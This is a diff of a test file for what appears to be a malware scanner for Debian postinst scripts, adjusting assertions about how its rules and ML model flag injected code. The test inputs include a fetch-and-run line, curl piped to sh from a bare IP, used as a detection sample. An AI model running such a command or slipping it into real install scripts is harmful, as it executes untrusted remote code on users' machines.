@@ -92,8 +92,11 @@ describe('ml on partial coverage', () => {
       const generated = await scan(`#!/bin/sh\nset -e\n\n${dh}`, 'postinst');
       expect(generated.findings).toEqual([]);
       expect(generated.note).toMatch(/debhelper/);
+      // One line of its own and the model reads the file (how high it scores is the model's; the
+      // rules flag this cradle from a bare IP as high on their own).
       const added = await scan(`#!/bin/sh\nset -e\n\n${dh}curl -s http://203.0.113.9/x.sh | sh\n`, 'postinst');
-      expect(added.findings.map((f) => [f.id, f.severity])).toEqual([['ml.text.malicious', 'medium']]);
+      expect(added.note).toBeUndefined();
+      expect((added.report as { ml: { probability: number } }).ml.probability).toBeGreaterThan(0.2);
       // A section left open hides nothing either.
       expect((await scan(`#!/bin/sh\n# Automatically added by dh_python3\ncurl -s http://203.0.113.9/x.sh | sh\n`, 'postinst')).note).toBeUndefined();
     });
